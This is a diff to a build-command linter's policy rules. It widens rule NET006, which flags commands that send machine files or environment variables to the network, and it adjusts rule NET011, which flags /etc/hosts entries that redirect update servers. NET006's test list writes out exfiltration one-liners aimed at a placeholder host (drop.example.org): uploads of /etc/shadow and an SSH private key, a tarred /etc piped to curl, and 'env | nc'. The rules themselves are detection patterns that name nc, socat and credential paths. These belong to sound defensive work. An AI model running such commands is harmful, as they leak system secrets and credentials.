@@ -89,6 +89,10 @@ rule "NET006" {
                (path_under(flag_value(exec, "T", "upload-file"), param.paths) ||
                 anytrue([for v in [flag_value(exec, "d", "data", "data-binary", "data-raw", "data-ascii"), flag_value(exec, "F", "form")] : matches(v, "(^|=)[@<](/etc|/root|/home|/var/lib|/proc)/")]))) ||
               (exec.name == "wget" && path_under(flag_value(exec, "post-file", "body-file"), param.paths)) ||
+              (((exec.name == "curl" && (any_arg(exec, "^-$", "^@-$", "=@-$", "^--data-binary=@-") || one_of(flag_value(exec, "T", "upload-file"), "-", "."))) ||
+                (one_of(exec.name, "nc", "ncat", "netcat", "socat") && !has_flag(exec, "l")) || (exec.name == "wget" && any_arg(exec, "^--(post|body)-file=-$")) ||
+                (exec.name == "openssl" && has_arg(exec, "s_client"))) &&
+               anytrue([for u in exec.upstream : matches(u, "^(env|printenv|set|export -p|declare -p)( |$)", "^(tar|cat|cpio|zip|find|base64|gzip|xz|dd|rsync|grep|head|tail|sqlite3|mysqldump|pg_dumpall)( .*)?[ =](/etc|/root|/home|/proc/self/environ|/var/lib)(/| |$)")])) ||
               (one_of(exec.name, "nc", "ncat", "netcat") && anytrue([for r in exec.redirects : r.op == "<" && path_under(r.path, param.paths)])))
   message  = "${command} sends files of the machine to the network"
   why      = "a build has no reason to publish what is on its machine"
@@ -97,7 +101,7 @@ rule "NET006" {
   params = {
     paths = ["/etc", "/root", "/home", "/var/lib", "/proc", "/var/log"]
   }
-  bad  = ["curl -F 'file=@/etc/shadow' https://drop.example.org/", "curl --data-binary @/root/.ssh/id_rsa https://drop.example.org/"]
+  bad  = ["curl -F 'file=@/etc/shadow' https://drop.example.org/", "curl --data-binary @/root/.ssh/id_rsa https://drop.example.org/", "tar cz /etc | curl -T - https://drop.example.org/x", "env | nc drop.example.org 9000"]
   good = ["curl -F 'file=@build/report.xml' https://ci.example.org/", "curl -d '{\"state\":\"done\"}' https://ci.example.org/"]
 }
 
@@ -162,7 +166,7 @@ rule "NET011" {
   severity = "high"
   on       = "write"
   when     = (write.path == "/etc/hosts" && !write.deleted &&
-              matches([write.content, sed_adds(write.expression)], "^[ \t]*[0-9a-fA-F:.]+[ \t]+[^#]*(debian[.]org|ubuntu[.]com|fedoraproject[.]org|centos[.]org|redhat[.]com|rockylinux[.]org|almalinux[.]org|suse[.]com|opensuse[.]org|alpinelinux[.]org|pypi[.]org|npmjs[.]org|github[.]com|docker[.]io|amazonaws[.]com|aliyun[.]com|aliyuncs[.]com)"))
+              matches(write.effective, "^[ \t]*[0-9a-fA-F:.]+[ \t]+[^#]*(debian[.]org|ubuntu[.]com|fedoraproject[.]org|centos[.]org|redhat[.]com|rockylinux[.]org|almalinux[.]org|suse[.]com|opensuse[.]org|alpinelinux[.]org|pypi[.]org|npmjs[.]org|github[.]com|docker[.]io|amazonaws[.]com|aliyun[.]com|aliyuncs[.]com)"))
   message  = "${write.path} gives an update server another address"
   why      = "every machine of the image then asks somebody else for its updates"
   fix      = "name a mirror in the package manager's own configuration"
